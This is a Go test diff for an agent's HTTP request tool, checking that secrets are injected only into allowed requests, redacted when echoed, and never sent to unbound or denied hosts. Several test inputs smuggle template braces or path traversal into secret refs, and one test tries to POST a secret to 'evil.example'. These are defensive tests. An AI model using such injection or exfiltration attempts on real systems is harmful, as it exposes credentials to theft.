@@ -60,7 +60,7 @@ func TestHTTPRequestInjectsSecretAsAuthorization(t *testing.T) {
 	t.Parallel()
 	s := apiServer(t, nil)
 	u := s.url("site.test", "/api")
-	tc := &tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor(web.SecretPattern)}
+	tc := secretContext(t, web.SecretPattern)
 	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/api/token"}, tc)
 	require.Equal(t, tool.OK(apiResult(u)), res)
 	reqs := s.requests()
@@ -88,7 +88,7 @@ func TestHTTPRequestAuthScheme(t *testing.T) {
 		if tt.scheme != nil {
 			args["auth_scheme"] = tt.scheme
 		}
-		res := mustCall(t, web.HTTPRequest(), args, &tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor("http/*")})
+		res := mustCall(t, web.HTTPRequest(), args, secretContext(t, "http/*"))
 		require.True(t, res.OK, res.Error)
 		reqs := s.requests()
 		require.Equal(t, tt.want, reqs[len(reqs)-1].Header.Get("Authorization"), "scheme %v", tt.scheme)
@@ -99,8 +99,7 @@ func TestHTTPRequestRedactsEchoedSecret(t *testing.T) {
 	t.Parallel()
 	s := apiServer(t, nil)
 	u := s.url("site.test", "/echo")
-	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/api/token"},
-		&tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor("http/*")})
+	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/api/token"}, secretContext(t, "http/*"))
 	require.Equal(t, tool.OK("HTTP 200 OK from "+u+"\nContent-Length: 40\nContent-Type: text/plain\nDate: Mon, 02 Jan 2006 15:04:05 GMT\n\nyou sent: Bearer [REDACTED]"), res)
 }
 
@@ -108,7 +107,7 @@ func TestHTTPRequestRedirectToOtherOriginDropsAuthorization(t *testing.T) {
 	t.Parallel()
 	other := apiServer(t, nil) // another port: another origin
 	s := apiServer(t, other)
-	tc := &tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor("http/*")}
+	tc := secretContext(t, "http/*")
 	res := mustCall(t, web.HTTPRequest(), obj{
 		"method": "GET", "url": s.url("site.test", "/to-other"), "auth_secret": "http/api/token",
 		"headers": obj{"Cookie": "c=1", "X-Trace": "t-1"},
@@ -120,7 +119,7 @@ func TestHTTPRequestRedirectToOtherOriginDropsAuthorization(t *testing.T) {
 	require.Equal(t, "Bearer "+secretValue, first[0].Header.Get("Authorization"))
 	hop := other.requests()
 	require.Len(t, hop, 1)
-	require.Empty(t, hop[0].Header.Values("Authorization"), "the secret never reaches another origin")
+	require.Empty(t, hop[0].Header.Values("Authorization"), "the secret never reaches another origin (nor a host it is not bound to)")
 	require.Empty(t, hop[0].Header.Values("Cookie"))
 	require.Equal(t, "t-1", hop[0].Header.Get("X-Trace"), "other headers follow the redirect")
 
@@ -139,20 +138,20 @@ func TestHTTPRequestSecretRefusals(t *testing.T) {
 	f := fetcher(t, 0)
 
 	// A ref the grant does not allow: the accessor's denial, verbatim.
-	for _, ref := range []string{"other/api/token", "http", "http/../other/api/token"} {
-		res, err := call(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": ref},
-			&tool.Context{Fetch: f, Secrets: secretsFor("http/*")})
+	// Braces would reshape the template the tool builds: no valid ref has one.
+	for _, ref := range []string{"other/api/token", "http", "http/../other/api/token", "http/api/token}} {{other/api/token", "http/a{b"} {
+		tc := secretContext(t, "http/*")
+		res, err := call(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": ref}, tc)
 		require.ErrorIs(t, err, tool.ErrSecretNotDeclared, ref)
 		require.EqualError(t, err, secretDeniedMsg)
 		require.Equal(t, tool.Result{}, res)
+		require.Empty(t, tc.Secrets.(interface{ Resolved() []string }).Resolved(), ref)
 	}
 	// A ref without a value.
-	_, err := call(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/missing"},
-		&tool.Context{Fetch: f, Secrets: secretsFor("http/*")})
+	_, err := call(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/missing"}, secretContext(t, "http/*"))
 	require.EqualError(t, err, "auth_secret: secret not found")
 	// A value that cannot be a header value; the message does not echo it.
-	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/bad/value"},
-		&tool.Context{Fetch: f, Secrets: secretsFor("http/*")})
+	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/bad/value"}, secretContext(t, "http/*"))
 	require.Equal(t, tool.Fail(tool.CodeExecutionFailed, "The value of auth_secret cannot be sent in an HTTP header: it contains a line break or NUL."), res)
 	// No secrets accessor.
 	res = mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/api/token"}, &tool.Context{Fetch: f})
@@ -160,7 +159,7 @@ func TestHTTPRequestSecretRefusals(t *testing.T) {
 	// A caller Authorization header together with auth_secret.
 	for _, name := range []string{"Authorization", "authorization"} {
 		res = mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "auth_secret": "http/api/token", "headers": obj{name: "Bearer x"}},
-			&tool.Context{Fetch: f, Secrets: secretsFor("http/*")})
+			secretContext(t, "http/*"))
 		require.Equal(t, tool.CodeInputInvalid, res.Code)
 		require.Equal(t, "invalid arguments: args.headers."+name+" must not be set together with auth_secret, which is sent as the Authorization header", res.Error)
 	}
@@ -170,6 +169,42 @@ func TestHTTPRequestSecretRefusals(t *testing.T) {
 	res = mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": u, "headers": obj{"Authorization": "Bearer mine"}}, &tool.Context{Fetch: f})
 	require.True(t, res.OK, res.Error)
 	require.Equal(t, "Bearer mine", s.requests()[0].Header.Get("Authorization"))
+}
+
+// TestHTTPRequestSecretToUnboundHost: a host the network policy allows but
+// the personality's secrets.send_to does not bind the secret to gets no
+// request at all, and the value is never even resolved.
+func TestHTTPRequestSecretToUnboundHost(t *testing.T) {
+	t.Parallel()
+	unbound := apiServer(t, nil)
+	for _, host := range []string{"other.test", "127.0.0.1"} {
+		tc := secretContext(t, "http/*")
+		res, err := call(t, web.HTTPRequest(), obj{"method": "POST", "url": unbound.url(host, "/api"), "auth_secret": "http/api/token", "body": "x"}, tc)
+		require.ErrorIs(t, err, tool.ErrSecretDestination)
+		require.EqualError(t, err, "SECRET_DESTINATION: this secret may not be sent to "+host+":"+unbound.port)
+		require.Equal(t, tool.Result{}, res)
+		require.Empty(t, tc.Secrets.(interface{ Resolved() []string }).Resolved(), "the value was never resolved")
+	}
+	require.Empty(t, unbound.requests(), "the server saw no request")
+
+	// The same host without auth_secret is reachable: only the secret is bound.
+	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": unbound.url("other.test", "/api")}, secretContext(t, "http/*"))
+	require.True(t, res.OK, res.Error)
+	require.Len(t, unbound.requests(), 1)
+}
+
+// TestHTTPRequestNeverHoldsTheValue: http_request no longer reads the
+// value; a grant that allows injection only is enough.
+func TestHTTPRequestNeverHoldsTheValue(t *testing.T) {
+	t.Parallel()
+	s := apiServer(t, nil)
+	tc := secretContext(t, "http/*")
+	_, err := tc.Secrets.Secret(ctxT(t), "http/api/token")
+	require.ErrorIs(t, err, tool.ErrSecretNotDeclared, "the grant does not let the tool read the value")
+	res := mustCall(t, web.HTTPRequest(), obj{"method": "GET", "url": s.url("site.test", "/echo"), "auth_secret": "http/api/token"}, tc)
+	require.True(t, res.OK, res.Error)
+	require.Equal(t, "Bearer "+secretValue, s.requests()[0].Header.Get("Authorization"))
+	require.True(t, strings.HasSuffix(res.Value, "you sent: Bearer [REDACTED]"), res.Value)
 }
 
 func TestHTTPRequestMethodsBodiesAndHeaders(t *testing.T) {
@@ -240,7 +275,7 @@ func TestHTTPRequestResponses(t *testing.T) {
 func TestHTTPRequestDeniedHostAndNoNetwork(t *testing.T) {
 	t.Parallel()
 	evil := newServer(t, map[string]http.HandlerFunc{"/": respond(http.StatusOK, ptr("text/plain"), "x")})
-	tc := &tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor("http/*")}
+	tc := secretContext(t, "http/*")
 	res, err := call(t, web.HTTPRequest(), obj{"method": "POST", "url": evil.url("evil.example", "/"), "auth_secret": "http/api/token", "body": "x"}, tc)
 	require.ErrorIs(t, err, tool.ErrHostNotAllowed)
 	require.EqualError(t, err, "HOST_NOT_ALLOWED: evil.example:"+evil.port+" is not in the declared allowedHosts")
@@ -281,7 +316,7 @@ func TestHTTPRequestMasksCredentialHeaders(t *testing.T) {
 func TestHTTPRequestChecksArgsAgain(t *testing.T) {
 	t.Parallel()
 	// For callers that skip the schema (the worker never does).
-	tc := &tool.Context{Fetch: fetcher(t, 0), Secrets: secretsFor("http/*")}
+	tc := secretContext(t, "http/*")
 	tests := []struct {
 		args string
 		want string
